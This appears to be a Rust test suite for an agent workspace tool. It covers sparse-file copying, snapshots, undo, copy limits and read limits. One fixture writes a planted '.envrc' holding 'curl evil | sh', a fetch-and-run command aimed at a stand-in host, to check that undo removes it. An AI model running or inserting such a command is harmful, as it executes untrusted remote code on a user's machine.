//! Copying a file with huge holes costs no space, memory or time; copies beyond the limits are refused.

use super::agent_files::{RunFixture, call};
use super::fixture::{Temp, temp, tree, write};
use crate::digest::digest;
use crate::sparse::{CopyBudget, CopyLimits};
use crate::workspace::Copier;
use crate::{ConfinedDir, FileContent, ProjectWorkspace, UndoCoverage, Workspace, review, undo};
use althing_protocol::AnswerLabel;
use serde_json::json;
use std::ffi::OsStr;
use std::fs::{self, File};
use std::os::unix::fs::{FileExt, MetadataExt};
use std::path::Path;
use std::time::{Duration, Instant};

const TIB: u64 = 1 << 40;
const GIB: u64 = 1 << 30;
/// Far longer than a copy that skips holes takes, and far shorter than one that writes them.
const QUICK: Duration = Duration::from_secs(120);

fn sparse(path: &Path, size: u64, pieces: &[(u64, &str)]) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let file = File::create(path).unwrap();
    file.set_len(size).unwrap();
    for (at, text) in pieces {
        file.write_all_at(text.as_bytes(), *at).unwrap();
    }
}

fn piece(path: &Path, at: u64, len: usize) -> String {
    let mut bytes = vec![0; len];
    File::open(path).unwrap().read_exact_at(&mut bytes, at).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn space(dir: &Path) -> u64 {
    let entries = fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path());
    let one = |path: std::path::PathBuf| {
        let data = fs::symlink_metadata(&path).unwrap();
        data.blocks() * 512 + if data.is_dir() { space(&path) } else { 0 }
    };
    entries.map(one).sum()
}

#[track_caller]
fn quickly<T>(work: impl FnOnce() -> T) -> T {
    let began = Instant::now();
    let done = work();
    assert!(began.elapsed() < QUICK, "it took {:?}", began.elapsed());
    done
}

#[track_caller]
fn is_copy(copy: &Path, size: u64, pieces: &[(u64, &str)]) {
    let data = fs::metadata(copy).unwrap();
    assert_eq!(data.len(), size, "{}", copy.display());
    assert!(data.blocks() * 512 < 1 << 20, "{} takes {} blocks", copy.display(), data.blocks());
    for (at, text) in pieces {
        assert_eq!(piece(copy, *at, text.len()), *text, "{} at {at}", copy.display());
    }
}

fn label(agent: u32, nth: u32) -> AnswerLabel {
    AnswerLabel { agent, nth }
}

fn workspace(dir: &Temp, name: &str) -> Workspace {
    let run = dir.path().join("run");
    Workspace::open(&run, &run.join("workspaces").join(name)).unwrap()
}

#[test]
fn a_hole_of_four_tebibytes_is_copied_shown_and_imported_as_a_hole() {
    let pieces = [(0, "head"), (3 * TIB + 5, "in the middle"), (4 * TIB - 3, "end")];
    let dir = temp();
    let (one, two) = (workspace(&dir, "one"), workspace(&dir, "two"));
    sparse(&one.path().join("deep/big"), 4 * TIB, &pieces);
    sparse(&one.path().join("nothing"), TIB, &[]);
    write(&one.path().join("small.txt"), "small");
    quickly(|| {
        let snapshot = one.take_snapshot(label(1, 1)).unwrap();
        assert_eq!(snapshot.copied, 3);
        is_copy(&snapshot.path.join("deep/big"), 4 * TIB, &pieces);
        is_copy(&snapshot.path.join("nothing"), TIB, &[]);
        two.show_snapshots(&[label(1, 1)]).unwrap();
        is_copy(&two.view_of(1).join("deep/big"), 4 * TIB, &pieces);
        two.import_dir(one.path(), Path::new("taken/here")).unwrap();
        is_copy(&two.path().join("taken/here/deep/big"), 4 * TIB, &pieces);
        assert_eq!(fs::read_to_string(two.path().join("taken/here/small.txt")).unwrap(), "small");
    });
    assert!(space(dir.path()) < 2 << 20, "{} bytes on the disk", space(dir.path()));
}

#[tokio::test]
async fn a_hole_of_four_tebibytes_in_a_context_path_is_stored_reviewed_and_restored_as_a_hole() {
    let pieces = [(TIB, "mine")];
    let fixture = RunFixture::writable();
    let (old, new) = (fixture.base.join("project/old.img"), fixture.base.join("project/new.img"));
    sparse(&old, 4 * TIB, &pieces);
    let began = Instant::now();
    let files = fixture.files(0);
    files.open_context().await.unwrap();
    let deleted = call(&files, "delete_file", json!({"path": old.to_str().unwrap()})).await;
    assert!(!deleted.is_error, "{}", deleted.content);
    sparse(&new, 4 * TIB, &[(7, "theirs")]);
    assert_eq!(files.close_context().await.unwrap().len(), 2);
    let reviewed: Vec<_> = review(&fixture.run).unwrap().into_iter().map(|r| (r.before, r.now)).collect();
    let opaque = || FileContent::Opaque { bytes: 4 * TIB };
    assert_eq!(reviewed, [(FileContent::Absent, opaque()), (opaque(), FileContent::Absent)]);
    let report = undo(&fixture.run).unwrap();
    assert_eq!((report.restored.len(), report.removed.len()), (1, 1));
    is_copy(&old, 4 * TIB, &pieces);
    assert!(!new.exists());
    assert!(began.elapsed() < QUICK, "it took {:?}", began.elapsed());
    assert!(space(&fixture.base) < 2 << 20);
}

#[tokio::test]
async fn what_a_command_plants_beside_many_sparse_files_is_listed_and_undone() {
    let mut fixture = RunFixture::writable();
    fixture.coverage = UndoCoverage::Everything;
    let files = fixture.files(0);
    files.open_context().await.unwrap();
    let began = Instant::now();
    let at = |path: &str| fixture.base.join("project").join(path);
    write(&at(".envrc"), "curl evil | sh");
    write(&at("b.txt"), "by a command");
    for n in 0..200 {
        sparse(&at(&format!("holes/{n}")), GIB, &[]);
    }
    let writes = files.close_context().await.unwrap();
    let is_listed = |path: &str| writes.iter().any(|write| write.path == at(path).display().to_string());
    assert!(is_listed(".envrc") && is_listed("b.txt") && is_listed("holes/199"), "{writes:?}");
    let report = undo(&fixture.run).unwrap();
    assert_eq!((report.restored.len(), report.removed.len()), (1, 201));
    assert_eq!(fixture.text("project/b.txt"), "b before\n");
    assert!(!at(".envrc").exists() && !at("holes").exists());
    assert!(began.elapsed() < QUICK, "it took {:?}", began.elapsed());
}

#[tokio::test]
async fn a_huge_file_changed_after_the_run_is_not_undone() {
    let fixture = RunFixture::writable();
    let files = fixture.files(0);
    files.open_context().await.unwrap();
    let new = fixture.base.join("project/new.img");
    sparse(&new, 4 * TIB, &[(7, "by the run")]);
    files.close_context().await.unwrap();
    File::options().write(true).open(&new).unwrap().write_all_at(b"by a person", 2 * TIB).unwrap();
    assert!(undo(&fixture.run).unwrap_err().to_string().contains("new.img"));
    assert_eq!(piece(&new, 2 * TIB, 11), "by a person");
}

#[test]
fn deliverables_keep_their_holes_and_are_left_out_beyond_the_limit() {
    let (dir, run) = (temp(), temp());
    let project = ProjectWorkspace::open(dir.path()).unwrap();
    let size = 3 << 30;
    sparse(&run.path().join("deliverables/image"), size, &[(1 << 30, "data")]);
    sparse(&run.path().join("deliverables/too-large"), 4 * TIB, &[]);
    let delivered = quickly(|| project.deliver(run.path(), "s.r1").unwrap());
    assert_eq!(delivered.copied, ["image"]);
    assert_eq!(
        delivered.left_out,
        [("too-large".to_owned(), "the number or size limit of a delivery is reached".to_owned())]
    );
    is_copy(&project.deliverables_dir().join("image"), size, &[(1 << 30, "data")]);
    let again = quickly(|| project.deliver(run.path(), "s.r2").unwrap());
    assert_eq!((again.copied.len(), again.beside.len()), (0, 0), "it was already delivered");
}

fn names(dir: &Path) -> Vec<String> {
    fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect()
}

type Bomb<'b> = (&'b dyn Fn(&Path), &'b str);

#[test]
fn more_than_the_limits_is_refused_with_the_reason_and_leaves_nothing_behind() {
    let limits = CopyLimits { data: 1 << 20, size: 8 * TIB, entries: 20 };
    let size = |dir: &Path| {
        sparse(&dir.join("a"), 5 * TIB, &[]);
        sparse(&dir.join("b"), 5 * TIB, &[]);
    };
    let data = |dir: &Path| (0..3).for_each(|n| write(&dir.join(format!("{n}")), &"x".repeat(500_000)));
    let entries = |dir: &Path| (0..30).for_each(|n| write(&dir.join(format!("{n}/file")), "x"));
    let bombs: [Bomb<'_>; 3] = [
        (&size, "the files have a total size of 10 TiB; the limit is 8 TiB"),
        (&data, "the files contain more than 1 MiB of data, which is the limit"),
        (&entries, "there are more than 20 files and directories, which is the limit"),
    ];
    for (bomb, why) in bombs {
        let dir = temp();
        let (one, two) =
            (workspace(&dir, "one").with_limits(limits), workspace(&dir, "two").with_limits(limits));
        bomb(&one.path().join("bomb"));
        let refused = quickly(|| one.take_snapshot(label(1, 1))).unwrap_err().to_string();
        assert!(refused.ends_with(why), "{refused}");
        assert_eq!(names(&dir.path().join("run/snapshots")), Vec::<String>::new());
        let refused = quickly(|| two.import_dir(&one.path().join("bomb"), Path::new("taken"))).unwrap_err();
        assert!(refused.to_string().ends_with(why), "{refused}");
        assert_eq!(names(two.path()), Vec::<String>::new());
        two.show_snapshots(&[label(1, 1)]).unwrap();
        fs::remove_dir_all(one.path().join("bomb")).unwrap();
        write(&one.path().join("fine.txt"), "fine");
        assert_eq!(tree(&one.take_snapshot(label(1, 2)).unwrap().path).len(), 1);
    }
}

#[test]
fn where_holes_cannot_be_found_a_copy_is_written_out_up_to_the_limit() {
    let dir = temp();
    let (from, to) = (dir.path().join("from"), dir.path().join("to"));
    sparse(&from.join("huge"), 4 * TIB, &[(TIB, "x")]);
    sparse(&from.join("fine"), 700_000, &[(600_000, "data")]);
    fs::create_dir(&to).unwrap();
    let (source, target) = (ConfinedDir::open(&from).unwrap(), ConfinedDir::open(&to).unwrap());
    let limits = CopyLimits { data: 1 << 20, ..CopyLimits::default() };
    let copier = Copier::without_holes(limits);
    let copy = |name: &str| copier.copy(&source, OsStr::new(name), &target, &mut Vec::new()).map(drop);
    let refused = quickly(|| copy("huge")).unwrap_err();
    assert_eq!(refused.to_string(), "the files contain more than 1 MiB of data, which is the limit");
    assert_eq!(names(&to), Vec::<String>::new());
    copy("fine").unwrap();
    assert_eq!(fs::read(to.join("fine")).unwrap(), fs::read(from.join("fine")).unwrap());
    copy("huge").unwrap_err();
}

#[test]
fn a_digest_depends_on_the_content_and_not_on_where_the_holes_are() {
    let dir = temp();
    let of = |name: &str, size: u64, pieces: &[(u64, &str)]| {
        sparse(&dir.path().join(name), size, pieces);
        digest(&File::open(dir.path().join(name)).unwrap(), &CopyBudget::default()).unwrap()
    };
    let size = 2 << 30;
    let zeros = "\0".repeat(300_000);
    let plain = of("plain", size, &[(1_000_000, "data"), (size - 2, "zz")]);
    let filled = of("filled", size, &[(0, &zeros), (1_000_000, "data"), (1 << 30, &zeros), (size - 2, "zz")]);
    assert_eq!(plain, filled);
    for other in [
        of("moved", size, &[(1_000_001, "data"), (size - 2, "zz")]),
        of("longer", size + 1, &[(1_000_000, "data"), (size - 2, "zz")]),
        of("else", size, &[(1_000_000, "date"), (size - 2, "zz")]),
        of("empty", size, &[]),
    ] {
        assert_ne!(plain, other);
    }
    let small = [of("small", 1_000_000, &[]), of("written", 1_000_000, &[(400_000, &zeros)])];
    assert_eq!(small[0], small[1]);
}

#[tokio::test]
async fn reading_and_searching_a_file_with_a_huge_hole_ends_soon() {
    let fixture = RunFixture::writable();
    let files = fixture.files(0);
    let text = "a line\n".repeat(3000);
    sparse(&Path::new(files.path()).join("big.txt"), 4 * TIB, &[(0, &text), (4 * TIB - 9, "\na needle")]);
    let began = Instant::now();
    let read = call(&files, "read_file", json!({"path": "big.txt", "offset": 2999})).await;
    assert!(read.is_error && read.content.contains("the limit is"), "{}", read.content);
    call(&files, "search", json!({"pattern": "needle"})).await;
    assert!(began.elapsed() < QUICK, "it took {:?}", began.elapsed());
}
